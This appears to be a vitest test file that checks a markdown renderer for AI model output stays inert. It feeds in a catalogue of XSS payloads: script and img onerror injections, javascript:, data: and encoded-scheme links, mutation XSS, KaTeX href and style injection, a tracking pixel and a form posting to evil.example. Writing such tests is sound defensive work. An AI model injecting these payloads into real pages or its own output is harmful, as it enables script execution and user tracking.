// @vitest-environment jsdom
// DOMPurify is specified against real browsers and jsdom; happy-dom's tree walking skips nodes.
import { beforeAll, describe, expect, it } from "vitest";

import { loadMath } from "./math";
import { renderMarkdown } from "./render";

/** Model output crafted to run code, load things or restyle the app. */
const PAYLOADS: Record<string, string> = {
  "script tag": "<script>alert(1)</script>",
  "script in a paragraph": "Hello <script src=https://evil.example/x.js></script> world",
  "img onerror": "<img src=x onerror=alert(1)>",
  "svg onload with script":
    '<svg onload="alert(1)"><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
  iframe: '<iframe src="javascript:alert(1)"></iframe>',
  "object and embed": '<object data="javascript:alert(1)"></object><embed src="x.swf">',
  "style tag": "<style>body { display: none }</style>",
  "style attribute": '<div style="background:url(javascript:alert(1))">x</div>',
  "raw anchor": '<a href="javascript:alert(1)">click</a>',
  "javascript link": "[click](javascript:alert(1))",
  "mixed-case javascript link": "[click](JaVaScRiPt:alert(1))",
  "entity-encoded javascript link": "[click](&#106;avascript:alert(1))",
  "percent-encoded javascript link": "[click](%6Aavascript:alert(1))",
  "tab inside scheme": "[click](java\tscript:alert(1))",
  "data link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "vbscript link": "[click](vbscript:msgbox(1))",
  "file link": "[click](file:///etc/passwd)",
  "reference-style javascript link": "[click][evil]\n\n[evil]: javascript:alert(1)",
  "javascript autolink": "<javascript:alert(1)>",
  "data autolink": "<data:text/html,<script>alert(1)</script>>",
  "image with javascript src": "![x](javascript:alert(1))",
  "remote tracking image": "![pixel](https://evil.example/track.png)",
  "attribute breakout in title": '[x](https://example.com "t\\" onmouseover=\\"alert(1)")',
  "attribute breakout in url": '[x](https://example.com/"onmouseover="alert(1))',
  "html entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
  "code fence with markup": "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
  "code fence info breakout": '```js" onmouseover="alert(1)\nx\n```',
  "mutation xss":
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  form:
    '<form action="https://evil.example"><input name="q">' +
    '<button formaction="javascript:alert(1)">go</button></form>',
  "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  "base tag": '<base href="javascript:alert(1)//">',
  "math href": "$\\href{javascript:alert(1)}{click}$",
  "math url": "$\\url{javascript:alert(1)}$",
  "math html extensions": "$\\htmlStyle{background:url(https://evil.example)}{x} \\htmlData{onclick=alert(1)}{y}$",
  "math color injection": "$\\color{red;background:url(https://evil.example/)}{x}$",
  "display math with html": "$$\n</span><img src=x onerror=alert(1)>\n$$",
};

const DANGEROUS_TAGS =
  "script, iframe, object, embed, style, link, meta, base, img, form, input, button:not(.code-copy), frame, template";
const URL_ATTRIBUTES = ["href", "src", "xlink:href", "action", "formaction", "data", "srcset", "background", "poster"];

function renderInto(text: string): HTMLElement {
  const root = document.createElement("div");
  root.append(renderMarkdown(text).fragment);
  document.body.append(root);
  return root;
}

beforeAll(async () => {
  await loadMath();
});

describe("model output is rendered inert", () => {
  it.each(Object.entries(PAYLOADS))("%s", (_name, payload) => {
    const root = renderInto(payload);
    expect(root.querySelectorAll(DANGEROUS_TAGS)).toHaveLength(0);
    for (const element of root.querySelectorAll("*")) {
      for (const attribute of element.attributes) {
        expect(attribute.name.toLowerCase().startsWith("on"), `${element.tagName} ${attribute.name}`).toBe(false);
        if (URL_ATTRIBUTES.includes(attribute.name.toLowerCase())) {
          expect(attribute.value, `${element.tagName} ${attribute.name}`).toMatch(/^https?:\/\//);
        }
        if (attribute.name === "style") expect(attribute.value).not.toMatch(/url|expression|javascript|@import/i);
      }
    }
    for (const svg of root.querySelectorAll("svg")) expect(svg.closest(".katex")).not.toBeNull();
    root.remove();
  });

  it("shows raw HTML from the model as literal text", () => {
    const root = renderInto("Try <b>this</b> and <script>alert(1)</script>");
    expect(root.querySelector("b")).toBeNull();
    expect(root.textContent).toContain("<b>this</b>");
    expect(root.textContent).toContain("<script>alert(1)</script>");
  });

  it("shows a link with an unsafe scheme as its plain text", () => {
    const root = renderInto("[click](javascript:alert(1))");
    expect(root.querySelector("a")).toBeNull();
    expect(root.textContent?.trim()).toBe("[click](javascript:alert(1))");
  });

  it("never loads images: a markdown image becomes a link to its address", () => {
    const root = renderInto("![a pixel](https://evil.example/track.png)");
    expect(root.querySelector("img")).toBeNull();
    const link = root.querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://evil.example/track.png");
    expect(link?.textContent).toBe("Image: a pixel");
  });

  it("keeps HTML entities as the characters they stand for, not as markup", () => {
    const root = renderInto("&lt;img src=x onerror=alert(1)&gt;");
    expect(root.querySelector("img")).toBeNull();
    expect(root.textContent?.trim()).toBe("<img src=x onerror=alert(1)>");
  });
});
